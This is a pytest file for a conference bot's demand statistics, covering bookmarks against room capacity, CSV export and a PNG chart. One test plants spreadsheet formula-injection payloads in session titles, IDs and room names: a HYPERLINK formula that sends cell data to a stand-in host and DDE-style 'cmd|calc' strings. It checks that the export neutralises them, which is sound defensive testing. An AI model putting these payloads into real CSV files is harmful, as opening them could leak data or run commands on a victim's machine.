"""Demand figures: bookmarks against room capacity, the chart (PNG) and the CSV, from plain values."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import matplotlib.image

from bot.programme.loader import load_programme
from bot.programme.model import Programme
from bot.stats import ChartLabels, demand, demand_chart, demand_csv
from tests.conftest import BUNDLED

LABELS = ChartLabels("Most bookmarked", "bookmarks", "bookmarks", "capacity", "over capacity", "No bookmarks yet")


def small_rooms() -> Programme:
    programme = load_programme(BUNDLED)
    rooms = tuple(replace(r, capacity=2) if r.id == "rodrigo" else r for r in programme.rooms)
    return replace(programme, rooms=rooms)


def test_most_wanted_first_and_over_capacity_marked() -> None:
    programme = small_rooms()
    rows = demand(programme, {"cmc24-d1-inaugural": 3, "cmc24-connecting-missions": 5, "cmc24-d1-wrapup": 1})
    assert not [d for d in rows if d.room.id == "iturbi" and d.over_capacity]
    assert [(d.session.id, d.bookmarks) for d in rows[:3]] == [
        ("cmc24-connecting-missions", 5),
        ("cmc24-d1-inaugural", 3),
        ("cmc24-d1-wrapup", 1),
    ]
    inaugural = rows[1]
    assert inaugural.capacity == 2 and inaugural.over_capacity and inaugural.fill == 1.5
    assert rows[0].over_capacity  # the same small room
    assert all(not d.session.is_cancelled for d in rows)


def test_csv_has_every_session_with_capacity_and_fill() -> None:
    programme = small_rooms()
    rows = demand(programme, {"cmc24-d1-inaugural": 3})
    data = demand_csv(rows, programme)
    assert data.startswith("\ufeff".encode())
    table = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(table) == len(rows)
    first = table[0]
    assert first["session_id"] == "cmc24-d1-inaugural" and first["room"] == "Sala Joaquín Rodrigo"
    assert (first["capacity"], first["bookmarks"], first["fill_percent"], first["over_capacity"]) == (
        "2",
        "3",
        "150.0",
        "yes",
    )
    assert first["day"] == "2024-06-25" and first["start"] == "09:30"


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted() -> None:
    programme = small_rooms()
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    sessions = list(programme.sessions)
    for i, title in enumerate(hostile):
        sessions[i] = replace(sessions[i], title=title)
    sessions[4] = replace(sessions[4], title="\t=1+1", id="=cmd|calc", room_id="rodrigo")
    rooms = tuple(replace(r, name="\r=2+2") if r.id == "rodrigo" else r for r in programme.rooms)
    programme = replace(programme, sessions=tuple(sessions), rooms=rooms)
    table = list(csv.DictReader(io.StringIO(demand_csv(demand(programme, {}), programme).decode("utf-8-sig"))))
    titles = {row["title"] for row in table}
    assert {"'" + t for t in hostile} <= titles  # shown as the text it is, never run
    assert "'\t=1+1" in titles
    assert {row["session_id"] for row in table if row["title"] == "'\t=1+1"} == {"'=cmd|calc"}
    assert {row["room"] for row in table if row["room"].endswith("=2+2")} == {"'\r=2+2"}
    cells = [cell for row in table for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "Sala José Iturbi" in {row["room"] for row in table}  # ordinary text is untouched


def test_chart_is_a_png_image() -> None:
    programme = small_rooms()
    png = demand_chart(demand(programme, {"cmc24-d1-inaugural": 3, "cmc24-connecting-missions": 5}), LABELS)
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    image = matplotlib.image.imread(io.BytesIO(png), format="png")
    assert image.shape[0] > 200 and image.shape[1] == 1000


def test_chart_without_bookmarks_still_renders() -> None:
    png = demand_chart(demand(small_rooms(), {}), LABELS)
    assert png.startswith(b"\x89PNG")
